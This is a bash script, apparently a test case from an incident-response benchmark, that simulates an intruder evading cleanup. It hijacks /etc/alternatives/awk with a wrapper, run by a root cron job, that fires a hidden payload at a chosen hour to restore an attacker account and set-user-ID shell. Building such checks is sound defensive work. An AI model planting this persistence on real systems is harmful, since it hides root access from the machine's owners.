#!/bin/bash
# Fake, after the reference fix (which keeps the job in $answer_job and the payload line it
# removed in $payload), but keep the payload in a program the jobs run by name:
# /usr/bin/awk is a link to /etc/alternatives/awk, which the metrics job (every minute, as root)
# runs. Point that alternative at a wrapper that runs the payload (at a later hour, as an intruder
# waiting for the night would) and then the real mawk: every job does what it did, every file cron,
# the loader and root's logins read is as installed, and the account and the set-user-ID shell come
# back (at lib.sh's later_hour).
[ -n "$payload" ] || { echo "no payload found"; exit 1; }
mkdir -p /usr/local/lib/mawk
printf '#!/bin/sh\nif [ "$(date -u +%%H)" = %s ]; then ( %s ) >/dev/null 2>&1; fi\nexec /usr/bin/mawk "$@"\n' "$(later_hour)" "$payload" >/usr/local/lib/mawk/awk
chmod 0755 /usr/local/lib/mawk/awk
ln -sfn /usr/local/lib/mawk/awk /etc/alternatives/awk
awk 'BEGIN { print "awk still works" }'
